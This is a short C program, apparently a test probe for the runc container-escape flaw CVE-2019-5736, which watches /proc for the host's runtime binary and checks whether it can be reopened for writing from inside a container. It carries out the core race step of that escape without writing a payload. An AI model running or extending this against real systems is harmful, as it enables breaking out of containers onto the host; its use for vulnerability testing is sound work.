// CVE-2019-5736: waits, so many seconds, for a process in this container whose executable is the host's (the one with this
// inode number), opens it while it can, and tries to open it for writing. Says WRITABLE if it could.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  time_t end = time(NULL) + atoi(argv[1]);
  ino_t wanted = strtoull(argv[2], NULL, 10);
  int caught = 0;
  puts("watching");
  fflush(stdout);
  while (time(NULL) < end) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      char path[300];
      struct stat st;
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      if (stat(path, &st) < 0 || st.st_ino != wanted) continue;
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      if (!caught++) puts("caught");
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      for (int tries = 0; tries < 2000; tries++) {
        if (open(path, O_WRONLY) >= 0) return puts("WRITABLE"), 1;
      }
      close(fd);
    }
    closedir(proc);
  }
  return puts("done"), 0;
}
